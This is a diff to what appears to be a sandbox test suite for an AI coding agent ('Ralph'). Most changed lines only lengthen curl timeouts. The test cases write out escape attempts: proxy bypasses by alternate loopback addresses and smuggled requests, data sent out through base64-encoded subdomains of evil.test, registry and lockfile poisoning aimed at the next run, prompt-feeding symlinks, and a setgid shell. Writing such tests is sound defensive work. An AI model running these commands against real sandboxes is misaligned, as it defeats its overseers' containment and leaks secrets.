@@ -9,7 +9,7 @@ const call = (...args) =>
     `import ctypes;l=ctypes.CDLL(None,use_errno=True);b=ctypes.create_string_buffer(256);raise SystemExit(l.syscall(${args.join(',')})<0)`,
   )
 const proxy = 'http://127.0.0.1:3128'
-const raw = (text) => `${text} | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'`
+const raw = (text) => `${text} | timeout 20 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'`
 const linkTo = (path, name) => `rm -f "${name}"; ln -s "${path}" "${name}"; exit 1`
 const follows = (name) => (look) => look.ralphReads(`project/${name}`)?.includes('secret') === true
 
@@ -41,11 +41,11 @@ export const deputyCases = [
   // The next run looks for registries.
   deputy('registry-of-next-run', {
     first: 'echo "registry=http://127.0.0.1:$ORIGIN_PORT/" >.npmrc',
-    sh: `curl -s -m5 "http://127.0.0.1:$ORIGIN_PORT/" | grep origin || curl -s -m5 --noproxy "" --proxy ${proxy} "http://127.0.0.1:$ORIGIN_PORT/" | grep origin`,
+    sh: `curl -s -m20 "http://127.0.0.1:$ORIGIN_PORT/" | grep origin || curl -s -m20 --noproxy "" --proxy ${proxy} "http://127.0.0.1:$ORIGIN_PORT/" | grep origin`,
   }),
   deputy('lockfile-of-next-run', {
     first: `echo '{"packages":{"a":{"resolved": "http://inside.test:'$ORIGIN_PORT'/a.tgz"}}}' >package-lock.json`,
-    sh: `curl -s -m5 --noproxy "" --proxy ${proxy} "http://inside.test:$ORIGIN_PORT/" | grep origin`,
+    sh: `curl -s -m20 --noproxy "" --proxy ${proxy} "http://inside.test:$ORIGIN_PORT/" | grep origin`,
   }),
   // Files that Ralph reads after the attempt, and puts into the next prompt.
   deputy('learnings-link', {
@@ -78,25 +78,27 @@ export const deputyCases = [
     'proxy-second-request',
     `${raw(`printf 'GET http://allowed.test:%s/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://127.0.0.1:%s/secret HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' "$ORIGIN_PORT" "$ORIGIN_PORT"`)} | grep origin-secret`,
   ),
-  net('proxy-zero-address', `curl -s -m5 --noproxy "" --proxy ${proxy} "http://0.0.0.0:$ORIGIN_PORT/" | grep origin`),
+  net('proxy-zero-address', `curl -s -m20 --noproxy "" --proxy ${proxy} "http://0.0.0.0:$ORIGIN_PORT/" | grep origin`),
   net(
     'proxy-octal-address',
-    `curl -s -m5 --noproxy "" --proxy ${proxy} "http://0177.0.0.1:$ORIGIN_PORT/" | grep origin`,
+    `curl -s -m20 --noproxy "" --proxy ${proxy} "http://0177.0.0.1:$ORIGIN_PORT/" | grep origin`,
   ),
   net(
     'proxy-compatible-loopback',
-    `curl -s -m5 -g --noproxy "" --proxy ${proxy} "http://[::127.0.0.1]:$ORIGIN_PORT/" | grep origin`,
+    `curl -s -m20 -g --noproxy "" --proxy ${proxy} "http://[::127.0.0.1]:$ORIGIN_PORT/" | grep origin`,
   ),
   net(
     'proxy-upgrade',
     `${raw(`printf 'GET http://inside.test:%s/ HTTP/1.1\\r\\nHost: inside.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n' "$ORIGIN_PORT"`)} | grep origin`,
   ),
-  net('names-as-a-channel', `curl -s -m5 https://c2VjcmV0.evil.test/ http://c2VjcmV0.evil.test/; exit 1`, ({ asked }) =>
-    asked.some((host) => host.endsWith('evil.test')),
+  net(
+    'names-as-a-channel',
+    `curl -s -m20 https://c2VjcmV0.evil.test/ http://c2VjcmV0.evil.test/; exit 1`,
+    ({ asked }) => asked.some((host) => host.endsWith('evil.test')),
   ),
   net(
     'proxy-url-user',
-    `curl -s -m5 --noproxy "" --proxy ${proxy} "http://allowed.test@127.0.0.1:$ORIGIN_PORT/" | grep origin`,
+    `curl -s -m20 --noproxy "" --proxy ${proxy} "http://allowed.test@127.0.0.1:$ORIGIN_PORT/" | grep origin`,
   ),
   sys('set-group-id-shell', 'cp /bin/sh b8 && chmod g+s b8; exit 1', ({ setUserIds }) => setUserIds.length > 0),
   sys(
